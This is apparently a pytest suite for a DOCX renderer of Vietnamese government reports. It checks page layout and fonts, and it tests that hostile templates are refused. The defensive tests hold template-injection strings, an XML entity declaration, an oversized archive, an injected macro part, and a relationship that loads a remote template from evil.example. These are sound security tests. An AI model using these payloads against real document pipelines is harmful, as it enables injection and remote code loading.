import re
import zipfile
from io import BytesIO

import pytest
from docx import Document as open_document  # noqa: N813 -- docx.Document is a function
from docx.enum.text import WD_ALIGN_PARAGRAPH
from docx.oxml.ns import qn
from docx.shared import Mm, Pt

from signalmast.reports.renderers.docx import (
    TemplateRefused,
    build_template,
    check_template,
    render_docx,
)
from signalmast.reports.tests.documents import hostile_report, report

W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"


@pytest.fixture(scope="module")
def data():
    return render_docx(report())


@pytest.fixture
def word(data):
    return open_document(BytesIO(data))


def everything(word):
    return "\n".join(
        "".join(node.text or "" for node in paragraph.iter(qn("w:t")))
        for paragraph in word.element.body.iter(qn("w:p"))
    )


def millimetres(length):
    return round(length / Mm(1), 1)


def paragraph(word, start):
    """The first paragraph of the text or of a layout table that begins so."""
    found = [*word.paragraphs]
    for table in word.tables:
        found += [item for cell in table._cells for item in cell.paragraphs]
    return next(item for item in found if item.text.startswith(start))


def look(item):
    """(size, bold, italic, alignment) as the reader sees them."""
    font = item.style.font
    return (
        font.size.pt,
        font.bold,
        font.italic,
        item.alignment or item.style.paragraph_format.alignment,
    )


def edited(change, layout="decree-30"):
    word = open_document(BytesIO(build_template(layout, "vi")))
    change(word)
    out = BytesIO()
    word.save(out)
    return out.getvalue()


def repacked(data, changes):
    """The file with some parts replaced or added."""
    out = BytesIO()
    with zipfile.ZipFile(BytesIO(data)) as old, zipfile.ZipFile(out, "w") as new:
        for name in old.namelist():
            new.writestr(name, changes.get(name, old.read(name)))
        for name in changes.keys() - set(old.namelist()):
            new.writestr(name, changes[name])
    return out.getvalue()


def test_page_and_margins_are_inside_the_decree(word):
    assert len(word.sections) == 2
    for section in word.sections:
        assert (millimetres(section.page_width), millimetres(section.page_height)) == (210, 297)
        assert 20 <= millimetres(section.top_margin) <= 25
        assert 20 <= millimetres(section.bottom_margin) <= 25
        assert 30 <= millimetres(section.left_margin) <= 35
        assert 15 <= millimetres(section.right_margin) <= 20


def test_page_number_is_centred_in_the_header_but_not_on_page_one(word):
    for section in word.sections:
        assert section.different_first_page_header_footer
        number = section.header.paragraphs[0]
        assert number.alignment == WD_ALIGN_PARAGRAPH.CENTER
        assert [node.text for node in number._p.iter(qn("w:instrText"))] == [" PAGE "]
        assert 13 <= number.runs[0].font.size.pt <= 14
        assert section.first_page_header.paragraphs[0].text == ""
    annex = word.element.body.sectPr.find(qn("w:pgNumType"))
    assert annex.get(qn("w:start")) == "1"


def test_every_style_in_use_is_times_new_roman_in_black(word):
    used = {item.style.name for item in word.paragraphs}
    for table in word.tables:
        used |= {item.style.name for cell in table._cells for item in cell.paragraphs}

    for name in used:
        style = word.styles[name]
        fonts = style.element.rPr.find(qn("w:rFonts"))
        faces = {fonts.get(qn(f"w:{script}")) for script in ("ascii", "hAnsi", "eastAsia", "cs")}
        assert faces == {"Times New Roman"}
        assert str(style.font.color.rgb) == "000000"
        assert style.element.rPr.find(qn("w:lang")).get(qn("w:val")) == "vi-VN"


@pytest.mark.parametrize(
    ("start", "size", "bold", "italic"),
    [
        ("CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM", (12, 13), True, False),
        ("Độc lập - Tự do - Hạnh phúc", (13, 14), True, False),
        ("ỦY BAN NHÂN DÂN QUẬN 1", (12, 13), False, False),
        ("PHÒNG TRUYỀN THÔNG", (12, 13), True, False),
        ("Số: 05/BC-PTT", (13, 13), False, False),
        ("Quận 1, ngày 26 tháng 6 năm 2018", (13, 14), False, True),
        ("BÁO CÁO", (13, 14), True, False),
        ("Sơ kết công tác truyền thông", (13, 14), True, False),
        ("KT. TRƯỞNG PHÒNG", (13, 14), True, False),
        ("PHÓ TRƯỞNG PHÒNG", (13, 14), True, False),
        ("Trần Thị Mẫu", (13, 14), True, False),
        ("PHƯƠNG PHÁP", (13, 14), True, False),
    ],
)
def test_lines_of_the_layout_are_centred_in_their_sizes(word, start, size, bold, italic):
    try:
        item = paragraph(word, start)
    except StopIteration:
        item = paragraph(word, f"Phụ lục\n{start}")

    shown = look(item)
    assert size[0] <= shown[0] <= size[1]
    assert shown[1:] == (bold, italic, WD_ALIGN_PARAGRAPH.CENTER)


def test_recipients_are_small_and_closed_with_a_stop(word):
    heading = paragraph(word, "Nơi nhận:")
    cell = word.tables[-2].rows[0].cells[0]
    lines = [item for item in cell.paragraphs if item.text.startswith("- ")]

    assert look(heading)[:3] == (12, True, True)
    assert [item.text for item in lines] == [
        "- Ủy ban nhân dân Quận 1;",
        "- Các đơn vị cơ sở;",
        "- Lưu: VT, TT.",
    ]
    assert {look(item)[:3] for item in lines} == {(11, False, False)}


def test_body_is_justified_indented_and_spaced(word):
    body = paragraph(word, "Sáu tháng đầu năm").style

    assert body.font.size == Pt(14)
    assert body.paragraph_format.alignment == WD_ALIGN_PARAGRAPH.JUSTIFY
    assert millimetres(body.paragraph_format.first_line_indent) == 12.7
    assert body.paragraph_format.space_after >= Pt(6)
    assert 1 <= body.paragraph_format.line_spacing <= 1.5


def test_lines_are_borders_of_paragraphs_and_nothing_is_underlined(word, data):
    rules = [
        word.styles[name].element.pPr.find(f"{qn('w:pBdr')}/{qn('w:bottom')}").get(qn("w:val"))
        for name in ("Rule Office", "Rule Motto", "Rule Abstract")
    ]

    assert rules == ["single"] * 3
    with zipfile.ZipFile(BytesIO(data)) as package:
        assert b"<w:u " not in package.read("word/document.xml")
    head = word.tables[0].rows[0].cells
    office = next(item for item in head[0].paragraphs if item.style.name == "Rule Office")
    form = office.paragraph_format
    length = 160 * 0.42 - 2 * form.left_indent / Mm(1)
    assert 1 / 3 <= length / 50.1 <= 1 / 2  # "PHÒNG TRUYỀN THÔNG" is 50.1 mm long


def test_tables_repeat_their_header_and_keep_rows_whole(word):
    layout, data = [], []
    for table in word.tables:
        borders = table._tbl.tblPr.find(qn("w:tblBorders"))
        plain = borders.find(qn("w:top")).get(qn("w:val")) == "nil"
        (layout if plain else data).append(table)

    assert (len(layout), len(data)) == (2, 3)
    for table in [*layout, *data]:
        assert all(row.trPr.find(qn("w:cantSplit")) is not None for row in table._tbl.tr_lst)
    for table in data:
        marked = [row.trPr.find(qn("w:tblHeader")) is not None for row in table._tbl.tr_lst]
        assert marked == [True] + [False] * (len(marked) - 1)


def test_marks_are_raised_and_lead_to_the_annex(word):
    names = {mark.get(qn("w:name")) for mark in word.element.body.iter(qn("w:bookmarkStart"))}
    anchors = [
        link for link in word.element.body.iter(qn("w:hyperlink")) if link.get(qn("w:anchor"))
    ]

    assert len(anchors) == 12
    for link in anchors:
        assert link.get(qn("w:anchor")) in names
        assert (
            link.find(f"{qn('w:r')}/{qn('w:rPr')}/{qn('w:vertAlign')}").get(qn("w:val"))
            == "superscript"
        )
    identities = [mark.get(qn("w:id")) for mark in word.element.body.iter(qn("w:bookmarkStart"))]
    assert len(identities) == len(set(identities))


def test_figures_link_to_their_rows(word):
    targets = {relation._target for relation in word.part.rels.values() if relation.is_external}

    assert "https://desk.example/figures/engagement.posts/2018-H1" in targets


def test_pictures_are_spoken(word):
    described = [shape._inline.docPr.get("descr") for shape in word.inline_shapes]

    assert len(described) == 4
    assert all(text.endswith(".") for text in described)
    assert {millimetres(shape.width) for shape in word.inline_shapes} == {160.0}


def test_properties_name_the_report_and_its_language(word):
    properties = word.core_properties

    assert properties.title.startswith("Báo cáo: Sơ kết công tác truyền thông")
    assert (properties.language, properties.author) == ("vi-VN", "Phòng Truyền thông")
    assert properties.created.isoformat() == "2018-06-26T09:30:00+00:00"


def test_headings_are_word_headings_without_a_skipped_level(word):
    levels = [
        int(item.style.name[-1])
        for item in word.paragraphs
        if item.style.name.startswith("Heading ")
    ]

    assert levels == [1, 2, 2, 2, 3, 1, 1]


def test_paragraph_properties_keep_the_order_of_the_schema(data):
    order = [
        "pStyle", "keepNext", "keepLines", "pBdr", "spacing", "ind", "jc", "outlineLvl",
        "rPr", "sectPr",
    ]  # fmt: skip
    word = open_document(BytesIO(data))
    for properties in [
        *word.element.body.iter(qn("w:pPr")),
        *word.styles.element.iter(qn("w:pPr")),
    ]:
        names = [child.tag.removeprefix(W) for child in properties]
        known = [order.index(name) for name in names if name in order]
        assert known == sorted(known), names


def test_an_unsigned_report_says_draft_and_a_signed_one_does_not():
    assert "DỰ THẢO" in everything(open_document(BytesIO(render_docx(report(state="draft")))))
    assert "DỰ THẢO" not in everything(open_document(BytesIO(render_docx(report()))))


def test_a_report_without_methods_has_no_annex():
    from dataclasses import replace

    word = open_document(BytesIO(render_docx(replace(report(body=()), methods=()))))

    assert len(word.sections) == 1
    assert "Phụ lục" not in everything(word)


@pytest.mark.parametrize("layout", ["decree-30", "plain"])
def test_hostile_words_stay_words(layout):
    text = everything(open_document(BytesIO(render_docx(hostile_report(layout)))))

    for words in ("{{ 7*7 }}", "{% raw %}", "#panic()", "<script>alert('x')</script> &", "</w:t>"):
        assert words in text
    assert re.findall(r"\b49\b", text) == []
    assert "\x1b" not in text


def test_an_edited_template_keeps_its_edits():
    def change(word):
        word.add_paragraph("Điện thoại: 028 0000 0000")
        word.styles["Report Body"].font.size = Pt(13)
        word.sections[0].right_margin = Mm(15)

    template = edited(change)
    check_template(template)
    word = open_document(BytesIO(render_docx(report(), template=template)))

    assert "Điện thoại: 028 0000 0000" in everything(word)
    assert paragraph(word, "Sáu tháng đầu năm").style.font.size == Pt(13)
    assert millimetres(word.sections[0].right_margin) == 15
    assert {millimetres(shape.width) for shape in word.inline_shapes} == {165.0}


def test_a_template_of_one_tag_gets_what_it_lacks():
    word = open_document()
    word.add_paragraph("{{ body }}")
    out = BytesIO()
    word.save(out)

    text = everything(open_document(BytesIO(render_docx(report(), template=out.getvalue()))))

    assert "91.718 lượt" in text
    assert "PHƯƠNG PHÁP TÍNH CÁC CHỈ SỐ" in text


@pytest.mark.parametrize(
    ("tag", "says"),
    [
        ("{{ salary }}", "uses the tag “salary”"),
        ("{{ office", "is not complete"),
        ("{% for x in recipients %}", "is not complete"),
        ("{{ 7 * 7 }}", "calculates or calls"),
        ("{{ 'a' * 999999999 }}", "calculates or calls"),
        ("{{ office.__class__.__mro__ }}", "calculates or calls"),
        ("{{ office | upper }}", "calculates or calls"),
        ("{{ range(10) }}", "calculates or calls"),
        ("{% set office = parent %}", "calculates or calls"),
        ("{% include 'x' %}", "calculates or calls"),
        ("{% for x in office %}{{ x }}{% endfor %}", "may only go over"),
        (
            "{% for x in recipients %}{% for y in recipients %}{{ y }}{% endfor %}{% endfor %}",
            "may only go over",
        ),
    ],
)
@pytest.mark.parametrize("place", ["body", "header"])
def test_a_template_that_does_more_than_name_things_is_refused(tag, says, place):
    def change(word):
        if place == "body":
            word.add_paragraph(tag)
        else:
            word.sections[0].header.add_paragraph(tag)

    with pytest.raises(TemplateRefused, match=says) as refusal:
        check_template(edited(change))

    assert str(refusal.value).endswith(".")


def test_a_template_without_a_place_for_the_text_is_refused():
    def change(word):
        body = paragraph(word, "{{ body }}")
        body._p.getparent().remove(body._p)

    with pytest.raises(TemplateRefused, match="no paragraph that holds only"):
        check_template(edited(change))


@pytest.mark.parametrize(
    "changes",
    [
        {"word/document.xml": b"<broken"},
        {"word/document.xml": b'<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'},
        {"word/document.xml": "<x/>".encode("utf-16")},
        {"[Content_Types].xml": b"<x/>"},
        {"word/styles.xml": b"<!ENTITY % x>"},
    ],
)
def test_a_damaged_template_is_refused(changes):
    with pytest.raises(TemplateRefused, match="not a Word document"):
        check_template(repacked(build_template("decree-30", "vi"), changes))


@pytest.mark.parametrize("data", [b"", b"hello", b"PK\x03\x04garbage", b"%PDF-1.7"])
def test_what_is_no_word_document_is_refused(data):
    with pytest.raises(TemplateRefused, match="not a Word document"):
        check_template(data)


def test_a_cut_off_template_is_refused():
    whole = build_template("decree-30", "vi")
    for length in range(0, len(whole), len(whole) // 20):
        with pytest.raises(TemplateRefused, match="not a Word document"):
            check_template(whole[:length])


def test_a_template_with_macros_is_refused():
    template = repacked(build_template("decree-30", "vi"), {"word/vbaProject.bin": b"x"})

    with pytest.raises(TemplateRefused, match="holds macros"):
        check_template(template)


def test_a_template_that_loads_from_outside_is_refused():
    relations = (
        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
        b'2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
        b'officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotx" '
        b'TargetMode="External"/></Relationships>'
    )
    template = repacked(
        build_template("decree-30", "vi"), {"word/_rels/settings.xml.rels": relations}
    )

    with pytest.raises(TemplateRefused, match="loads something from outside"):
        check_template(template)


def test_a_template_that_unpacks_without_end_is_refused():
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("word/document.xml", b"0" * 31 * 1024 * 1024)

    with pytest.raises(TemplateRefused, match="more than 30 MB"):
        check_template(out.getvalue())


def test_tags_in_the_properties_are_not_read():
    def change(word):
        word.core_properties.author = "{{ 7*7 }}"
        word.core_properties.keywords = "{{ office.__class__ }}"

    word = open_document(BytesIO(render_docx(report(), template=edited(change))))

    assert (word.core_properties.author, word.core_properties.keywords) == (
        "Phòng Truyền thông",
        "",
    )
